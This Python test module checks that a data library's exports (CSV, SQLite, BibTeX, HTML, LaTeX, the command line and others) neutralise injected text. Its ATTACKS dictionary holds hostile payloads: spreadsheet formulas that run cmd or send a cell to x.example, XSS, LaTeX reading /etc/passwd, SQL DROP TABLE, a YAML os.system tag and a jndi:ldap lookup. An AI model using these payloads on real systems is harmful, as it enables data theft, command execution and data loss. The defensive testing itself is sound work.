"""Attacks, and what we write for other programs: no text of the data becomes a command, markup or a second record."""

import contextlib
import csv
import io
import json
import re
import sqlite3
import tempfile
import xml.etree.ElementTree as ET
from collections.abc import Callable
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import aigov_data as ag
from aigov_data import citation, cli
from aigov_data.export import Options, exported
from aigov_data.export.cells import GUARDED
from aigov_data.problems import Problem

from .small_data import ACT, IDS, small, write

ATTACKS: dict[str, str] = {
    "spreadsheet: =": '=HYPERLINK("http://x.example/?"&A1,"a")',
    "spreadsheet: +": "+cmd|' /C calc'!A0",
    "spreadsheet: -": "-2+3+cmd|' /C calc'!A0",
    "spreadsheet: @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet: after a tab": "\t=1+1",
    "spreadsheet: after a new line": "\r\n=1+1",
    "spreadsheet: full width": "＝1+1",
    "CSV: quote and comma": 'a","b\r\nc',
    "HTML: element": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "HTML: attribute": "\" onmouseover=alert(1) x='",
    "HTML: comment and CDATA": "--><!-- ]]> <![CDATA[",
    "HTML: entity": "&lt;script&gt;&#60;b&#62;&amp;",
    "LaTeX: command": r"\input{/etc/passwd}\write18{id}\def\a{\a}\a",
    "LaTeX: special characters": r"100% of $x_1^2$ & #1 ~{}",
    "LaTeX: unbalanced": r"}}}{\end{document}",
    "BibTeX: end of entry": '"}, note = {x}}\n@misc{evil, title = {y}}\n@comment{',
    "RIS: new record": "a\r\nER  - \r\nTY  - BOOK\r\nTI  - evil",
    "Turtle: end of string": '""" . <urn:evil> <urn:evil> <urn:evil> . # \\',
    "JSON: end of string": '"}], "evil": [{"',
    "SQL: end of statement": "'); DROP TABLE instruments; --",
    "Markdown: link and image": "[a](javascript:alert(1)) ![b](http://x.example/c) <http://x.example>",
    "Markdown: table and head": "| a | b |\n# head\n```\ncode",
    "YAML: tag": "!!python/object/apply:os.system ['id']\n- a: b",
    "terminal: escapes": "\x1b[2J\x1b]0;title\x07\x9b31m\x7f",
    "terminal: direction": "\u202eabc\u202c\u2066def\u2069",
    "terminal: line": "a\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "look-up in logs": "${jndi:ldap://x.example/a} {0.__class__} %(a)s %n",
    "nul": "a\x00b",
    "marks of our own": "\ue000a\ue001\ue004javascript:1\ue005",
}
"""Name → a text that is a command somewhere."""
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
CONTROL = {*map(chr, range(32)), "\x7f", *map(chr, range(0x80, 0xA0)), *BIDI} - {"\n"}


@cache
def poisoned(text: str) -> ag.Dataset:
    """The small data set with a text wherever a text may stand."""
    data = small()
    file, key, position = ACT
    act = data[file][key][position]
    act["title"] |= {"en": text, "zh-Hans": text}
    act["aliases"][0]["text"] = text
    act["native_type"] = text
    act["summary"]["en"] = text
    act["identifiers"][0]["value"] = text
    act["publication"] = {"container": text, "pages": text, "refs": act["publication"]["refs"]}
    act["events"][3]["note"]["en"] = text
    act["claims"][0]["reason"]["en"] = text
    for actor in data["actors/xx.json"]["actors"]:
        if actor["id"] == "xx-parliament":
            actor["name"] = {"en": text, "zh-Hans": text}
    for source in data["sources/xx.json"]["sources"]:
        source["title"] = {"en": text}
    data["schemes/xx-charter.json"]["principles"][0]["name"]["en"] = text
    data["schemes/xx-charter.json"]["scheme"]["title"]["en"] = text
    with tempfile.TemporaryDirectory() as folder:
        return ag.Dataset.load(write(Path(folder), data))


def act_of(text: str) -> Any:
    return poisoned(text).instruments[IDS[1]]


class Seen(HTMLParser):
    """Elements, attributes and text of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.names: set[str] = set()
        self.addresses: list[str] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.names |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


def one_line(text: str) -> str:
    return " ".join(text.split())


# --- what is written, and what must be so ---------------------------------------------------------------


def guarded_csv(text: str) -> None:
    for name, raw in exported(poisoned(text), Options("datapackage", safe=True)):
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(raw.decode(), newline="")):
                assert not [cell for cell in row if GUARDED.match(cell) and not cell.startswith("'")]
                assert not [cell for cell in row if cell.lstrip().startswith(("=", "+", "-", "@", "＝"))]


def plain_csv(text: str) -> None:
    files = dict(exported(poisoned(text), Options("datapackage")))
    rows = list(csv.DictReader(io.StringIO(files["tables/instruments.csv"].decode(), newline="")))
    assert [row["id"] for row in rows] == IDS
    assert rows[1]["title_en"] == text
    assert json.loads(files["datapackage.json"])


def json_lines(text: str) -> None:
    raw = dict(exported(poisoned(text), Options("jsonl")))["instruments.jsonl"]
    lines = raw.decode().split("\n")
    assert lines.pop() == ""
    assert [json.loads(line)["id"] for line in lines] == IDS
    assert json.loads(lines[1])["title"]["en"] == text


def sqlite(text: str) -> None:
    with contextlib.closing(sqlite3.connect(":memory:")) as database:
        database.deserialize(dict(exported(poisoned(text), Options("sqlite")))["aigov-data.sqlite"])
        found = database.execute("SELECT id, title_en FROM instruments ORDER BY id").fetchall()
        assert found[1] == (IDS[1], text)
        assert len(found) == 2


def turtle(text: str) -> None:
    import rdflib

    raw = dict(exported(poisoned(text), Options("skos")))["concepts.ttl"]
    graph = rdflib.Graph().parse(data=raw.decode(), format="turtle")
    name = rdflib.URIRef("urn:aigov-data:principle/xx-charter.openness")
    assert rdflib.Literal(text, "en") in set(graph.objects(name, rdflib.SKOS.prefLabel))
    assert not list(graph.triples((rdflib.URIRef("urn:evil"), None, None)))


def sssom(text: str) -> None:
    raw = dict(exported(poisoned(text), Options("skos")))["mappings.sssom.tsv"].decode()
    rows = list(csv.reader([line for line in io.StringIO(raw, newline="") if not line.startswith("#")], delimiter="\t"))
    assert {len(row) for row in rows} == {8}
    assert len(rows) == 2


def json_ld(text: str) -> None:
    for format in ("schema-org", "croissant"):
        for name, raw in exported(poisoned(text), Options(format)):
            if name.endswith((".json", ".jsonld")):
                assert "evil" not in json.loads(raw)


def bibtex(text: str) -> None:
    from bibtexparser.entrypoint import parse_string

    picked = poisoned(text).instruments.pick([IDS[1]])
    for made in (picked.to_bibtex(), picked.to_biblatex()):
        library = parse_string(made)
        assert [type(one).__name__ for one in library.blocks] == ["ImplicitComment", "Entry"]
        assert [one.key for one in library.entries] == [IDS[1]]


def ris(text: str) -> None:
    lines = poisoned(text).instruments.pick([IDS[1]]).to_ris().split("\r\n")
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - ?.*", line) for line in lines if line)
    assert [line[:2] for line in lines].count("TY") == [line[:2] for line in lines].count("ER") == 1


def csl_json(text: str) -> None:
    (item,) = json.loads(json.dumps(poisoned(text).instruments.pick([IDS[1]]).to_csl_json()))
    assert one_line(item["title"]) == one_line(item["title"])
    assert "evil" not in item


def references(format: str, text: str) -> list[str]:
    act = act_of(text)
    return [act.cite(style, lang=lang, format=format) for style in citation.STYLES for lang in ("en", "zh")]


def cited_text(text: str) -> None:
    for made in references("text", text):
        assert not set(made) & ((CONTROL | {"\n", "\u2028", "\u2029"}) - BIDI)  # Arabic and Hebrew need these


def cited_html(text: str) -> None:
    for made in references("html", text):
        seen = Seen(made)
        assert set(seen.tags) <= {"i", "span", "a"}
        assert seen.names <= {"style", "href"}
        assert all(one.startswith("https://") for one in seen.addresses)


def cited_markdown(text: str) -> None:
    for made in references("markdown", text):
        bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", made)  # what is escaped is text
        bare = re.sub(r"<https?://[^\s<>\\]+>", "", bare)
        assert not re.search(r"[<>\[\]`|#!$~&^{}_]", bare)
        assert "\n" not in made


def cited_latex(text: str) -> None:
    for made in references("latex", text):
        commands = set(re.findall(r"\\([A-Za-z]+)", made))
        known = {"emph", "textsc", "url", "textbackslash", "textbraceleft", "textbraceright", "textasciitilde"}
        assert commands <= known | {"textasciicircum", "textless", "textgreater", "textbar", "textquotedbl"}
        shown = re.sub(r"\\.", "", made)
        assert shown.count("{") == shown.count("}")
        assert not re.search(r"[%$#&_^~]", re.sub(r"\\url\{.*?\}", "", shown))


def notebook(text: str) -> None:
    act = act_of(text)
    home = poisoned(text)
    for item in (act, home.instruments, home.actors["xx-parliament"], act.status("2025"), act.history, home):
        show = getattr(item, "_repr_html_", None)
        if show is None:
            continue
        seen = Seen(show())
        assert not {"script", "img", "svg", "iframe", "object", "style"} & set(seen.tags) - {"style"}
        assert not [name for name in seen.names if name.startswith("on") or name == "src"]
        assert all(one.startswith(("https://", "http://", "#")) for one in seen.addresses)


def svg(text: str) -> None:
    root = ET.fromstring(str(poisoned(text).instruments.to_svg()))
    tags = {one.tag.rpartition("}")[2] for one in root.iter()}
    assert not tags & {"script", "foreignObject", "image", "use"}
    assert not [name for one in root.iter() for name in one.attrib if name.startswith("on") or name.endswith("href")]


def commands(text: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        poisoned(text).export("json", folder)
        for argv in (
            ["list"],
            ["show", IDS[1]],
            ["status", IDS[1]],
            ["cite", IDS[1]],
            ["list", "--json"],
            ["show", text],
        ):
            out, err = io.StringIO(), io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                try:
                    assert cli.main([*argv, "--data", folder]) in (0, 1, 2)
                except SystemExit as stopped:  # a text that looks like an option
                    assert stopped.code == 2
            assert not set(out.getvalue() + err.getvalue()) & CONTROL


def messages(text: str) -> None:
    actors: Any = ag.actors
    for ask in (lambda: ag.instruments[text], lambda: ag.parse_date(text), lambda: actors.filter(kind=text)):
        try:
            ask()
        except ag.AigovDataError as error:
            assert not set(str(error)) & (CONTROL | {"\n"})
    assert "\n" not in str(Problem("f.json", "xx", "title.en", text, "expected another"))


def citation_cff(text: str) -> None:
    made = poisoned(text).to_cff()
    assert "evil" not in [line.split(":")[0].strip() for line in made.splitlines()]


WRITTEN: dict[str, Callable[[str], None]] = {
    "CSV, guarded": guarded_csv,
    "CSV and datapackage.json": plain_csv,
    "JSON Lines": json_lines,
    "SQLite": sqlite,
    "Turtle": turtle,
    "SSSOM": sssom,
    "JSON-LD": json_ld,
    "BibTeX and biblatex": bibtex,
    "RIS": ris,
    "CSL-JSON": csl_json,
    "reference, text": cited_text,
    "reference, HTML": cited_html,
    "reference, Markdown": cited_markdown,
    "reference, LaTeX": cited_latex,
    "notebook": notebook,
    "SVG": svg,
    "command line": commands,
    "messages": messages,
    "CITATION.cff": citation_cff,
}
"""What we write → what must be so of it."""
